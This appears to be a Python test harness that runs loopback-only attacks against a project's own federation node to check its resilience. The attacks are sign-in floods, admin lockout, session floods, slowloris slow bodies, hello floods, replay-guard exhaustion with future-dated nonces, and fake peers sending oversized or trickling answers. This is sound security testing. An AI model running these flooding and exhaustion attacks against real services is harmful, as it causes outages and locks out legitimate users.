#!/usr/bin/env python3
"""attack.py: the attacks of issue 22 on one running node, one subcommand each, on loopback only.

    python3 attack.py ATTACK --url http://127.0.0.1:PORT --duration SECONDS [--admin-password PW] [options]

Attacks (the attacker comes from 127.0.0.10 and up; the node's own users from 127.0.0.2 and .3):
  none            nothing: the baseline
  signin-flood    40 concurrent wrong sign-ins (POST /api/session), continuously, each for a new unknown username
                  (--username NAME: always that account instead)
  lockout         wrong passwords for `admin`, 6 at first and then one every 5 s; every 5 s the administrator
                  signs in with the right password from another address: does it still work?
  session-flood   10,010 sign-ins with a valid account (made through the admin API), after the administrator
                  signed in; then: does the administrator's earlier session still work?
  slow-bodies     250 connections POST /federation/records (validly signed by an unknown key), each sending one
                  byte of its body every 3 s (slowloris on the body); closed connections are opened again
  hello-flood     signed POST /federation/hello, each by a fresh key (not pinned), from 50 addresses, 20 at a time
  replay-fill     the node takes two fake peers (dump:peer-add); one sends 100,500 signed POST /federation/peers
                  with a new nonce each, dated 290 s ahead, 8 at a time on kept-alive connections, to fill the replay
                  guard (100,000 nonces); then: is the other peer's fresh signed request still taken?
  big-answer      the node takes a fake peer (dump:peer-add) that answers everything but its front door with 400 MB
  trickle-answer  the same, answering one byte a second

The peer attacks need --shell (the command that runs one shell command of the node read on stdin, e.g.
"DIST/bin/dump-node client NODEDIR -h 127.0.0.1 -u admin -p PW -b"). Prints one JSON line with what the attack did
and found ("finding"); its own log lines go to stderr.
"""
import argparse
import http.client
import json
import secrets
import shlex
import socket
import subprocess
import sys
import threading
import time
import urllib.parse

from net import connection, request, sources

ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


def log(*words):
    print("attack:", *words, file=sys.stderr, flush=True)


class Counter:
    def __init__(self):
        self.lock = threading.Lock()
        self.counts = {}

    def add(self, key):
        with self.lock:
            self.counts[str(key)] = self.counts.get(str(key), 0) + 1

    def total(self):
        with self.lock:
            return sum(self.counts.values())


def sign_in(args, username, password, source):
    try:
        status, answer, _ = request(args.url, "POST", "/api/session", {"username": username, "password": password},
                                    source=source, timeout=60)
        return status, answer.getheader("Set-Cookie", "").split(";", 1)[0]
    except (OSError, http.client.HTTPException) as e:
        return type(e).__name__, None


def run_workers(count, until, work):
    """count threads, each calling work(i) until time `until` (monotonic)."""
    def loop(i):
        while time.monotonic() < until:
            work(i)
    threads = [threading.Thread(target=loop, args=(i,), daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


@attack
def none(args):
    time.sleep(args.duration)
    return {}


@attack
def signin_flood(args):
    answers = Counter()
    addresses = sources(args.sources)

    def work(i):
        username = args.username or "nobody-" + secrets.token_hex(6)
        status, _ = sign_in(args, username, "wrong-" + secrets.token_hex(6), addresses[i % len(addresses)])
        answers.add(status)
    run_workers(args.concurrency or 40, time.monotonic() + args.duration, work)
    return {"sign_ins": answers.total(), "answers": answers.counts}


@attack
def lockout(args):
    attacker, admin_source = sources(1)[0], "127.0.0.3"
    wrong, right = Counter(), Counter()
    end = time.monotonic() + args.duration
    for _ in range(6):
        wrong.add(sign_in(args, "admin", "wrong-password", attacker)[0])
    while time.monotonic() < end:
        right.add(sign_in(args, "admin", args.admin_password, admin_source)[0])
        time.sleep(2.5)
        wrong.add(sign_in(args, "admin", "wrong-password", attacker)[0])
        time.sleep(2.5)
    ok, tries = right.counts.get("200", 0), right.total()
    works = "yes" if ok == tries else "no" if ok == 0 else f"partly ({ok}/{tries})"
    return {"finding": f"right password of admin still works from another address: {works}",
            "wrong_answers": wrong.counts, "right_answers": right.counts}


@attack
def session_flood(args):
    username, password = "flood-" + secrets.token_hex(4), "flood-password-" + secrets.token_hex(4)
    status, _, body = request(args.url, "POST", "/api/users", {"username": username, "password": password},
                              headers=basic("admin", args.admin_password))
    if status != 201:
        raise SystemExit(f"attack: creating {username} answered {status}: {body[:200]!r}")
    status, admin_cookie = sign_in(args, "admin", args.admin_password, "127.0.0.3")
    if status != 200:
        raise SystemExit(f"attack: the administrator's sign-in answered {status}")
    answers = Counter()
    started = time.monotonic()
    addresses = sources(args.sources)
    left = [args.count]
    lock = threading.Lock()

    deadline = started + args.max_seconds

    def worker(i):
        while time.monotonic() < deadline:
            with lock:
                if left[0] <= 0:
                    return
                left[0] -= 1
            answers.add(sign_in(args, username, password, addresses[i % len(addresses)])[0])
    threads = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(args.concurrency or 4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    with lock:
        done, left[0] = args.count - left[0], 0
    seconds = time.monotonic() - started
    status, _, body = request(args.url, "GET", "/api/session", headers={"Cookie": admin_cookie}, source="127.0.0.3")
    who = json.loads(body).get("username") if status == 200 and body else None
    works = "yes" if who == "admin" else f"no (GET /api/session answered {status})"
    return {"finding": f"administrator's earlier session still works: {works}",
            "sign_ins": done, "flood_seconds": round(seconds), "answers": answers.counts,
            "finished": done >= args.count}


@attack
def slow_bodies(args):
    from peer import FakeNode
    node = FakeNode()
    length, count = 4096, args.concurrency or 250
    body = b"{" + b" " * (length - 2) + b"}"
    parts = urllib.parse.urlsplit(args.url)
    target = f"{args.url.rstrip('/')}/federation/records"
    addresses = sources(args.sources)
    opened, closed = Counter(), Counter()

    def open_one(i):
        headers = node.signed_headers(target, body)
        s = socket.create_connection((parts.hostname, parts.port), timeout=10,
                                     source_address=(addresses[i % len(addresses)], 0))
        head = "POST /federation/records HTTP/1.1\r\n" + f"Host: {parts.netloc}\r\n" + \
            "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + f"Content-Length: {length}\r\n\r\n"
        s.sendall(head.encode())
        opened.add("opened")
        return [s, 0]

    conns = {}
    end = time.monotonic() + args.duration
    while time.monotonic() < end:
        for i in range(count):
            try:
                if i not in conns:
                    conns[i] = open_one(i)
                s, sent = conns[i]
                if sent < length - 1:
                    s.sendall(body[sent:sent + 1])
                    conns[i][1] += 1
            except OSError as e:
                closed.add(type(e).__name__)
                conns.pop(i, None)
        time.sleep(max(0.0, min(3.0, end - time.monotonic())))
    for s, _ in conns.values():
        s.close()
    return {"connections_opened": opened.total(), "failed_or_closed": closed.counts, "open_at_end": len(conns)}


@attack
def hello_flood(args):
    from peer import FakeNode, FakePeerServer
    server = FakePeerServer(FakeNode()).start()
    body = json.dumps({"url": server.url}).encode()
    target = f"{args.url.rstrip('/')}/federation/hello"
    answers = Counter()
    addresses = sources(args.sources)
    keys = [FakeNode() for _ in range(64)]

    def work(i):
        headers = keys[answers.total() % len(keys)].signed_headers(target, body)
        try:
            status, _, _ = request(args.url, "POST", "/federation/hello", body, headers,
                                   source=addresses[(i + answers.total()) % len(addresses)], timeout=60)
        except (OSError, http.client.HTTPException) as e:
            status = type(e).__name__
        answers.add(status)
    run_workers(args.concurrency or 20, time.monotonic() + args.duration, work)
    server.shutdown()
    return {"hellos": answers.total(), "answers": answers.counts, "node_asked_front_door": server.asked}


def peer_add(args, server, wait):
    """dump:peer-add of the fake peer through the node's shell; returns its output (or why it did not end)."""
    if not args.shell:
        raise SystemExit("attack: this attack needs --shell")
    try:
        done = subprocess.run(shlex.split(args.shell), input=f"dump:peer-add {server.url}\n", text=True,
                              capture_output=True, timeout=wait)
        return (done.stdout + done.stderr).strip()[-400:]
    except subprocess.TimeoutExpired:
        return f"dump:peer-add did not end within {wait} s"


@attack
def replay_fill(args):
    from peer import FakeNode, FakePeerServer
    attacker, honest = FakeNode(), FakeNode()
    servers = [FakePeerServer(attacker).start(), FakePeerServer(honest).start()]
    added = [peer_add(args, server, 120) for server in servers]
    log("peer-add:", added)
    target = f"{args.url.rstrip('/')}/federation/peers"
    answers = Counter()
    left = [args.count]
    lock = threading.Lock()
    deadline = time.monotonic() + args.max_seconds

    def send(node, conn, created=None, why=None):
        headers = node.signed_headers(target, b"{}", created=created)
        try:
            conn.request("POST", "/federation/peers", b"{}", headers)
            answer = conn.getresponse()
            text = answer.read()
            if why is not None:
                why.append(text.decode(errors="replace")[:200])
            return answer.status
        except (OSError, http.client.HTTPException) as e:
            conn.close()
            return type(e).__name__

    def worker(i):
        conn = connection(args.url, sources(1)[0], timeout=60)  # kept alive
        while time.monotonic() < deadline:
            with lock:
                if left[0] <= 0:
                    return
                left[0] -= 1
            # dated as far ahead as the node allows (5 minutes), so that once the oldest nonces are dropped, every
            # request dated now looks older than the newest dropped one
            answers.add(send(attacker, conn, created=int(time.time()) + 290))
    threads = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(args.concurrency or 8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    conn = connection(args.url, "127.0.0.3", timeout=60)
    why = []
    fresh = send(honest, conn, why=why)
    for server in servers:
        server.shutdown()
    taken = "yes" if fresh == 200 else f"no ({fresh} {''.join(why)})"
    return {"finding": f"another peer's fresh signed request is still taken: {taken}",
            "requests": answers.total(), "answers": answers.counts, "finished": answers.total() >= args.count,
            "peer_add": added}


def answer_attack(args, mode):
    from peer import FakeNode, FakePeerServer
    server = FakePeerServer(FakeNode(), mode=mode).start()
    started = time.monotonic()
    result = {}
    thread = threading.Thread(target=lambda: result.update(peer_add=peer_add(args, server, args.duration)),
                              daemon=True)
    thread.start()
    time.sleep(max(0.0, args.duration - (time.monotonic() - started)))
    thread.join(1)
    result.setdefault("peer_add", "still running at the end")
    result["node_asked"] = dict(server.asked)
    return result


@attack
def big_answer(args):
    return answer_attack(args, "big")


@attack
def trickle_answer(args):
    return answer_attack(args, "trickle")


def basic(username, password):
    import base64
    return {"Authorization": "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--url", required=True, help="the node, e.g. http://127.0.0.1:8181")
    parser.add_argument("--duration", type=float, default=45, help="seconds the attack lasts (default 45)")
    parser.add_argument("--admin-password", help="the password of `admin` (lockout, session-flood)")
    parser.add_argument("--shell", help="command that runs a shell command of the node given on stdin")
    parser.add_argument("--concurrency", type=int, help="connections or threads at once (default: the attack's)")
    parser.add_argument("--sources", type=int, default=1, help="attacker addresses 127.0.0.11… (default 1)")
    parser.add_argument("--username", help="signin-flood: the account to sign in as (default: unknown names)")
    parser.add_argument("--count", type=int, help="session-flood: sign-ins (default 10010); replay-fill: requests "
                        "(default 100500)")
    parser.add_argument("--max-seconds", type=float, default=900, help="session-flood, replay-fill: stop after "
                        "(default 900)")
    args = parser.parse_args()
    if args.count is None:
        args.count = 100500 if args.attack == "replay-fill" else 10010
    if args.attack in ("hello-flood",) and args.sources == 1:
        args.sources = 50
    started = time.monotonic()
    result = ATTACKS[args.attack](args)
    result = {"attack": args.attack, "seconds": round(time.monotonic() - started), **result}
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
